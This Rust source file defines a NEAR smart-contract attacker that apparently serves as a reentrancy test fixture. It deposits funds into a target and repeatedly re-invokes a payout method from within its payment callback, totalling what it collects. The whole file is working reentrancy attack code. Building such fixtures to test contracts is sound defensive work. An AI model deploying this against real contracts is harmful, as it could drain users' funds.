//! The AttackContract of the literature: it puts money into a contract, has it paid out, and while it is being paid, calls
//! again.

use near_sdk::{
    env, ext_contract, near, AccountId, Gas, GasWeight, NearToken, Promise, PromiseOrValue,
};

const PUT_GAS: Gas = Gas::from_tgas(5);
/// The least gas for one call, and for what it calls; what is left over comes on top.
const CALL_GAS: Gas = Gas::from_tgas(15);

/// Where it puts money.
#[ext_contract(ext_victim)]
#[allow(dead_code)]
trait Victim {
    fn put(&mut self);
}

/// What it will call, and what it was paid. Usable right after the deploy.
#[near(contract_state)]
#[derive(Default)]
pub struct AttackContract {
    method: String,
    calls: Vec<String>,
    collected: NearToken,
}

#[near]
impl AttackContract {
    /// Puts the attached deposit into a contract by its method `put`, in this contract's name.
    #[payable]
    pub fn put(&mut self, victim: AccountId) -> Promise {
        ext_victim::ext(victim)
            .with_static_gas(PUT_GAS)
            .with_attached_deposit(env::attached_deposit())
            .put()
    }

    /// Calls a method that pays, as often as there are arguments (each as JSON): the first time now, and then each time
    /// while it is being paid.
    pub fn attack(
        &mut self,
        victim: AccountId,
        method: String,
        args: Vec<String>,
    ) -> PromiseOrValue<()> {
        self.method = method;
        self.calls = args;
        self.next(victim)
    }

    /// Takes the money, and calls back in.
    #[payable]
    pub fn on_money(&mut self) -> PromiseOrValue<()> {
        self.collected = self.collected.saturating_add(env::attached_deposit());
        self.next(env::predecessor_account_id())
    }

    /// What it was paid so far.
    pub fn collected(&self) -> NearToken {
        self.collected
    }
}

impl AttackContract {
    fn next(&mut self, victim: AccountId) -> PromiseOrValue<()> {
        if self.calls.is_empty() {
            return PromiseOrValue::Value(());
        }
        let args = self.calls.remove(0).into_bytes();
        let method = self.method.clone();
        Promise::new(victim)
            .function_call_weight(method, args, NearToken::ZERO, CALL_GAS, GasWeight(1))
            .into()
    }
}
